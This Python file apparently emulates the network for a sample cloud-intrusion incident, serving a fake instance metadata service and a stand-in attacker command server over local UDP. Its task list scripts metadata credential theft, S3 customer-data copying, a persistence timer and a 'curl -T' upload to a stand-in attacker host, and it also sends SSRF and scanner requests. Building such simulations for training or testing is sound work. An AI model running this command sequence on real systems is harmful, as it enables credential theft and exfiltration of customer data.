"""The world outside the sample guest: a few hosts on one wire.

Answers ARP, serves the instance metadata service and the attacker's listener,
and sends the requests of the story. Nothing here touches a real network: the
wire is a pair of local UDP ports that the emulator sends whole frames to.
"""
import socket
import struct

GUEST_IP, GATEWAY_MAC = "10.0.1.20", bytes.fromhex("06aa00000001")
GUEST_MAC = bytes.fromhex("060c3f9a1d2b")
ROLE_PATH = "/latest/meta-data/iam/security-credentials/"
TOKEN = "IQoJb3JpZ2luX2VjE" + "EXAMPLEonlyTOKENofTHEsampleINCIDENT" * 12 + "=="
SECRET = "EXAMPLEEXAMPLEsecretKEYofSAMPLEincident0"
CREDENTIALS = """{
  "Code" : "Success",
  "LastUpdated" : "2026-03-11T02:00:00Z",
  "Type" : "AWS-HMAC",
  "AccessKeyId" : "ASIAAPPSTOLENEXAMPLE",
  "SecretAccessKey" : "%s",
  "Token" : "%s",
  "Expiration" : "2026-03-11T08:14:32Z"
}""" % (SECRET, TOKEN)
IDENTITY = """{
  "accountId" : "111122223333",
  "architecture" : "x86_64",
  "availabilityZone" : "ap-northeast-1a",
  "imageId" : "ami-0123abcd4567ef890",
  "instanceId" : "i-0f3a9c1d2b4e5f607",
  "instanceType" : "t3.micro",
  "privateIp" : "10.0.1.20",
  "region" : "ap-northeast-1"
}"""
IMDS = {
    ROLE_PATH: "app-server-role",
    ROLE_PATH + "app-server-role": CREDENTIALS,
    "/latest/meta-data/instance-id": "i-0f3a9c1d2b4e5f607",
    "/latest/dynamic/instance-identity/document": IDENTITY,
}
DAY = 1773187200  # 2026-03-11T00:00:00Z


def at(h, m, s):
    return DAY + h * 3600 + m * 60 + s


TASKS = [
    (at(3, 24, 10), "id; hostname"),
    (at(3, 24, 52), "curl -s http://169.254.169.254/latest/meta-data/iam/"
     "security-credentials/app-server-role"),
    (at(3, 25, 40), "aws sts get-caller-identity"),
    (at(3, 26, 31),
     "aws s3 ls s3://corp-reports-111122223333/customers/2026/"),
    (at(3, 29, 5), "aws s3 cp s3://corp-reports-111122223333/customers/2026/"
     " /tmp/.c --recursive --quiet"),
    (at(3, 33, 18), "systemctl enable --now sysupd.timer"),
    (at(3, 36, 47), "curl -s -T /tmp/.c/customers-01.csv"
     " https://198.51.100.66/u"),
]


def imds(data):
    if b"\r\n\r\n" not in data:
        return None
    path = data.split(b" ")[1].decode()
    body = IMDS.get(path)
    head = "HTTP/1.0 %s\r\nContent-Type: text/plain\r\nServer: EC2ws\r\n\r\n"
    return ((head % ("200 OK" if body else "404 Not Found")) +
            (body or "")).encode()


def c2(data):
    if not data.startswith(b"HELLO") or not data.endswith(b"\n"):
        return None
    return ("".join("%d\t%s\n" % t for t in TASKS) + "END\n").encode()


SERVERS = {("169.254.169.254", 80): (imds, True),
           ("198.51.100.66", 443): (c2, False)}


def ones(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


class Conn:
    """One TCP connection seen from outside: nxt = ours, ack = the guest's."""

    def __init__(self, seq, answer=None, close_after=False, request=None):
        self.seq, self.ack, self.answer = seq, 0, answer
        self.close_after, self.request, self.got = close_after, request, b""


class Outside:
    def __init__(self, here, there):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.s.bind(("127.0.0.1", here))
        self.there, self.conns, self.ident = ("127.0.0.1", there), {}, 1
        self.queue, self.log = [], []

    def fileno(self):
        return self.s.fileno()

    def ask(self, src, requests):
        """Requests one after the other, each on its own connection."""
        self.queue += [(src, r) for r in requests]
        if not any(c.request for c in self.conns.values()):
            self.next_request()

    def next_request(self):
        if not self.queue:
            return
        src, request = self.queue.pop(0)
        port = 40000 + len(self.log) * 137 % 20000
        key = (src, port, 80)
        self.log.append(key)
        c = self.conns[key] = Conn(7000 + port, request=request)
        self.tcp(key, c, 2)

    def tcp(self, key, c, flags, data=b""):
        src, sport, dport = key
        a, b = socket.inet_aton(src), socket.inet_aton(GUEST_IP)
        opts = b"\x02\x04\x05\xb4" if flags & 2 else b""
        t = struct.pack("!HHIIBBHHH", sport, dport, c.seq & 0xffffffff,
                        c.ack & 0xffffffff, (5 + len(opts) // 4) << 4, flags,
                        64000, 0, 0) + opts + data
        s = ones(a + b + struct.pack("!BBH", 0, 6, len(t)) + t)
        t = t[:16] + struct.pack("!H", s) + t[18:]
        self.ident += 1
        h = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(t),
                        self.ident & 0xffff, 0x4000, 47, 6, 0) + a + b
        h = h[:10] + struct.pack("!H", ones(h)) + h[12:]
        self.s.sendto(GUEST_MAC + GATEWAY_MAC + b"\x08\0" + h + t, self.there)
        c.seq += len(data) + (1 if flags & 3 else 0)

    def frame(self):
        f = self.s.recv(65536)
        kind = f[12:14]
        if kind == b"\x08\x06" and f[20:22] == b"\0\1":
            target = f[38:42]
            self.s.sendto(f[6:12] + GATEWAY_MAC + b"\x08\x06" + f[14:20] +
                          b"\0\2" + GATEWAY_MAC + target + f[22:32],
                          self.there)
        elif kind == b"\x08\0" and f[23] == 6:
            ip = f[14:]
            size = struct.unpack("!H", ip[2:4])[0]
            self.segment(socket.inet_ntoa(ip[16:20]),
                         ip[(ip[0] & 15) * 4:size])

    def segment(self, dst, t):
        gport, oport, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
        data, key = t[(off >> 4) * 4:], (dst, oport, gport)
        if flags & 2 and not flags & 16:
            if (dst, oport) in SERVERS:
                c = self.conns[key] = Conn(9000, *SERVERS[(dst, oport)])
                c.ack = seq + 1
                self.tcp(key, c, 0x12)
            return
        c = self.conns.get(key)
        if not c or flags & 4:
            return
        if flags & 2:                       # the guest accepted our request
            c.ack = seq + 1
            self.tcp(key, c, 0x18, c.request)
            return
        if seq != c.ack & 0xffffffff:
            self.tcp(key, c, 0x10)          # a repeat
            return
        c.ack += len(data)
        c.got += data
        if data and c.answer:
            reply = c.answer(c.got)
            self.tcp(key, c, 0x18 if reply else 0x10, reply or b"")
            if reply and c.close_after:
                self.tcp(key, c, 0x11)
        elif data:
            self.tcp(key, c, 0x10)
        if flags & 1:
            c.ack += 1
            if c.request:
                self.tcp(key, c, 0x11)
                c.request = None
                self.next_request()
            else:
                self.tcp(key, c, 0x10)

    def phase(self, name):
        host = b" HTTP/1.1\r\nHost: 203.0.113.20\r\nUser-Agent: %s\r\n\r\n"
        if name == "scanner":
            self.ask("192.0.2.99", [
                b"GET " + p + host % b"vuln-scanner/2.1" for p in
                (b"/wp-login.php", b"/.git/config", b"/admin/", b"/.env")])
        elif name.startswith("ssrf"):
            base = b"GET /fetch?url=http://169.254.169.254"
            paths = {"ssrf-look": ("/latest/meta-data/instance-id", ROLE_PATH),
                     "ssrf-key": (ROLE_PATH + "app-server-role",
                                  "/latest/dynamic/instance-identity/"
                                  "document")}
            self.ask("198.51.100.66", [
                base + p.encode() + host % b"curl/8.5.0" for p in paths[name]])
